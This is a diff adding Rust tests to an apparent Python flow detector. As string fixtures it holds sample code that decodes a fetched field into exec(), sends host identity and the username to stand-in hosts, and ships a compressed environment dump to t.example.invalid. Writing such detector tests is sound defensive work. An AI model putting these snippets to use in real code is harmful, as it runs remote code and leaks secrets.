@@ -695,3 +695,66 @@ fn a_key_the_caller_passes_sent_to_its_own_service_is_quiet() {
         "{handle:?}"
     );
 }
+
+#[test]
+fn an_encoded_field_of_a_fetched_document_decoded_into_exec_is_a_flow() {
+    let text = "import base64, requests\ndef check():\n    res = requests.get('https://cfg.example.invalid/v')\n    body = res.json()\n    field = body.get('message', '')\n    code = base64.b64decode(field).decode('utf-8')\n    exec(code)\ncheck()\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
+        "{found:?}"
+    );
+    let loads = "import base64, json, urllib.request\nreply = json.loads(urllib.request.urlopen('https://cfg.example.invalid/v').read())\nexec(base64.b64decode(reply['m']))\n";
+    assert!(py(loads).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+}
+
+#[test]
+fn a_fetched_document_used_as_data_is_not_a_flow() {
+    // A field of a JSON reply handed to git, and a base64 image field decoded and saved: no code runs.
+    let git = "import subprocess, requests\nsha = requests.get('https://api.example.invalid/head').json()['sha']\nsubprocess.run(['git', 'checkout', sha])\n";
+    assert!(py(git).is_empty(), "{:?}", py(git));
+    let image = "import base64, requests\nr = requests.get('https://api.example.invalid/avatar').json()\nopen('a.png', 'wb').write(base64.b64decode(r['png']))\n";
+    assert!(py(image).is_empty(), "{:?}", py(image));
+}
+
+#[test]
+fn the_machines_own_address_and_a_tls_socket_carry_host_identity() {
+    let address = "import socket, platform\ninfo = ('os', platform.release(), 'ip', socket.gethostbyname(socket.gethostname()))\nc = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nc.connect(('203.0.113.9', 9090))\nc.send(str(f'up {info}').encode())\n";
+    assert!(
+        py(address)
+            .iter()
+            .any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{:?}",
+        py(address)
+    );
+    let tls = "import getpass, socket, ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\nplain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsafe = ctx.wrap_socket(plain, server_hostname='x.example.invalid')\nsafe.connect(('x.example.invalid', 443))\nsafe.send(('GET /?u=' + getpass.getuser()).encode())\n";
+    assert!(
+        py(tls).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{:?}",
+        py(tls)
+    );
+}
+
+#[test]
+fn a_looked_up_service_address_carries_no_host_identity() {
+    let service = "import socket\naddr = socket.gethostbyname('db.example.invalid')\nc = socket.socket()\nc.connect((addr, 5432))\nc.send(b'hello ' + addr.encode())\n";
+    assert!(
+        !py(service)
+            .iter()
+            .any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{:?}",
+        py(service)
+    );
+}
+
+#[test]
+fn a_compressed_environment_dump_still_reaches_the_network() {
+    let text = "import os, gzip, base64, urllib.request\nenv = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())\npacked = base64.urlsafe_b64encode(gzip.compress(env.encode('utf-8'))).decode()\nurllib.request.urlopen(f'https://t.example.invalid/c?env={packed}', timeout=2)\n";
+    assert!(
+        py(text)
+            .iter()
+            .any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{:?}",
+        py(text)
+    );
+}
